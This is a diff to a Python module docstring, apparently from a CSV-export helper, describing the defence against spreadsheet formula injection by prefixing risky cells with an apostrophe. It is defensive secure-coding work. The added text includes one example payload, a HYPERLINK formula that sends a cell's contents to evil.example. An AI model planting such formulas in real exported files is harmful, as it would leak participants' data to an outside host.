@@ -1,8 +1,10 @@
-"""Cells a spreadsheet will not run: CSV files we write are opened in Excel or LibreOffice.
+"""CSV cells that are safe to open in a spreadsheet (the OWASP CSV-injection rule).
 
-A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return may be taken as a
-formula ("CSV injection"); a participant's name or an office line comes from strangers, so
-every text cell goes through ``safe_cell``, which prefixes such a cell with ``'``.
+A cell that starts with ``=``, ``+``, ``-`` or ``@`` is a formula to Excel, LibreOffice and
+Google Sheets: ``=HYPERLINK("https://evil.example/?"&A2, "click")`` in a participant's name
+would run when the organizer opens the delivery list. A tab or carriage return at the start
+can smuggle one in too. Such a cell gets a leading apostrophe, which spreadsheets show as
+text and hide; every other cell is left exactly as it was.
 """
 
 from __future__ import annotations
